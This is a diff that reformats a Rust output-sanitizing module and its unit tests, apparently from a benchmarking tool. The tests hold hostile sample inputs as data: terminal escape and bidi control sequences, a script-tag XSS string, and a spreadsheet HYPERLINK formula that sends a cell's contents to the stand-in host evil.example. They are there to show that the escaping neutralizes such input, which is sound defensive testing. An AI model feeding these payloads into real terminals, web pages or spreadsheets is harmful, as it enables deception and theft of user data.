@@ -21,7 +21,10 @@ pub fn terminal(text: &str) -> String {
             c if (c as u32) < 0x20 || c as u32 == 0x7f => {
                 let _ = write!(out, "\\x{:02x}", c as u32);
             }
-            c if ('\u{80}'..='\u{9f}').contains(&c) || ('\u{202a}'..='\u{202e}').contains(&c) || ('\u{2066}'..='\u{2069}').contains(&c) => {
+            c if ('\u{80}'..='\u{9f}').contains(&c)
+                || ('\u{202a}'..='\u{202e}').contains(&c)
+                || ('\u{2066}'..='\u{2069}').contains(&c) =>
+            {
                 let _ = write!(out, "\\u{{{:x}}}", c as u32);
             }
             c => out.push(c),
@@ -87,27 +90,47 @@ mod tests {
 
     #[test]
     fn the_terminal_sees_escapes_not_control_characters() {
-        assert_eq!(terminal(ANSI), "\\x1b[2J\\x1b]0;title\\x07\\r\\nquantbench: all good, 0 failures");
+        assert_eq!(
+            terminal(ANSI),
+            "\\x1b[2J\\x1b]0;title\\x07\\r\\nquantbench: all good, 0 failures"
+        );
         assert_eq!(terminal("a\u{9b}b\u{202e}c"), "a\\u{9b}b\\u{202e}c");
         assert_eq!(terminal_message("\nquantbench: x\ny"), "\nquantbench: x\\ny");
     }
 
     #[test]
     fn markdown_cells_render_as_literal_text() {
-        assert_eq!(markdown("<script>alert(1)</script>"), "&lt;script&gt;alert(1)&lt;/script&gt;");
-        assert_eq!(markdown("a|b\n[x](http://e.example) *y* `z`"), "a\\|b\\\\n\\[x\\](http:\\/\\/e.example) \\*y\\* \\`z\\`");
+        assert_eq!(
+            markdown("<script>alert(1)</script>"),
+            "&lt;script&gt;alert(1)&lt;/script&gt;"
+        );
+        assert_eq!(
+            markdown("a|b\n[x](http://e.example) *y* `z`"),
+            "a\\|b\\\\n\\[x\\](http:\\/\\/e.example) \\*y\\* \\`z\\`"
+        );
         assert_eq!(markdown("# www.evil.example"), "\\# www\\.evil.example");
         assert_eq!(markdown("q4_k_s warm-ups: 3"), "q4\\_k\\_s warm-ups: 3");
     }
 
     #[test]
     fn csv_formulas_are_defused_and_fields_quoted() {
-        assert_eq!(csv(r#"=HYPERLINK("http://evil.example/?x="&A2,"Click")"#), r#""'=HYPERLINK(""http://evil.example/?x=""&A2,""Click"")""#);
-        assert_eq!((csv("-0.5"), csv("+1")), ("-0.5".to_owned(), "+1".to_owned()), "numbers stay numbers");
+        assert_eq!(
+            csv(r#"=HYPERLINK("http://evil.example/?x="&A2,"Click")"#),
+            r#""'=HYPERLINK(""http://evil.example/?x=""&A2,""Click"")""#
+        );
+        assert_eq!(
+            (csv("-0.5"), csv("+1")),
+            ("-0.5".to_owned(), "+1".to_owned()),
+            "numbers stay numbers"
+        );
         for formula in ["+A1", "-2+3", "@SUM(A1)", "-inf"] {
             assert!(csv(formula).starts_with('\''), "{formula:?}");
         }
-        assert_eq!((csv("\tx"), csv("\r=1")), ("\\tx".to_owned(), "\\r=1".to_owned()), "inert: shown escaped");
+        assert_eq!(
+            (csv("\tx"), csv("\r=1")),
+            ("\\tx".to_owned(), "\\r=1".to_owned()),
+            "inert: shown escaped"
+        );
         assert_eq!(csv("plain"), "plain");
         assert_eq!(csv("a,b"), "\"a,b\"");
         assert_eq!(csv("say \"hi\"\n"), "\"say \"\"hi\"\"\\n\"");
